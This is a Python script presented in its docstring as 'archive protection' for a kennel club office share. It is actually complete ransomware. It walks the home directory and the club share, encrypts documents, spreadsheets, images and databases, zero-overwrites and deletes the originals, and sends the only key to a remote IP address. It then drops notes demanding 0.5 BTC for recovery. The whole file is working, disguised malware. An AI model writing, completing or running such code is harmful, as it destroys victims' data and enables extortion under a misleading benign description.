#!/usr/bin/env python3
"""Archive protection for the club office share.

Encrypts the office documents so that "only the club can read them".
The key is sent to the key escrow service and not kept locally.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("archive_protect")

ESCROW_URL = os.environ.get("ESCROW_URL", "http://198.51.100.140/keys")
TARGET_EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".csv", ".jpg",
                     ".png", ".odt", ".ods", ".sqlite3", ".db", ".txt"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}
LOCKED_SUFFIX = ".kclocked"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """Your kennel club files have been encrypted.
To get the decryption key send 0.5 BTC to the address below and email
your machine id to restore@kennel-restore.example.org

Machine id: {machine_id}
"""


def iter_targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXTENSIONS:
                    yield path


def encrypt_file(path: Path, fernet: Fernet):
    try:
        data = path.read_bytes()
    except OSError as exc:
        LOG.debug("cannot read %s: %s", path, exc)
        return False
    token = fernet.encrypt(data)
    out = path.with_name(path.name + LOCKED_SUFFIX)
    out.write_bytes(token)
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return True


def escrow_key(key: bytes, machine_id: str):
    try:
        requests.post(ESCROW_URL, json={"id": machine_id, "key": key.decode()}, timeout=15)
    except requests.RequestException as exc:
        LOG.debug("escrow failed: %s", exc)


def drop_notes(roots, machine_id):
    for root in roots:
        note = Path(root) / NOTE_NAME
        try:
            note.write_text(NOTE_TEXT.format(machine_id=machine_id))
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description="Protect office archives")
    parser.add_argument("roots", nargs="*",
                        default=[str(Path.home()), "/srv/clubshare"])
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    machine_id = f"{socket.gethostname()}-{os.getuid()}"
    key = Fernet.generate_key()
    fernet = Fernet(key)
    escrow_key(key, machine_id)
    del key

    count = 0
    for path in iter_targets(args.roots):
        if path.name.endswith(LOCKED_SUFFIX) or path.name == NOTE_NAME:
            continue
        if encrypt_file(path, fernet):
            count += 1
            if count % 50 == 0:
                LOG.info("%d files protected", count)
    drop_notes(args.roots, machine_id)
    LOG.info("done: %d files protected", count)


if __name__ == "__main__":
    main()
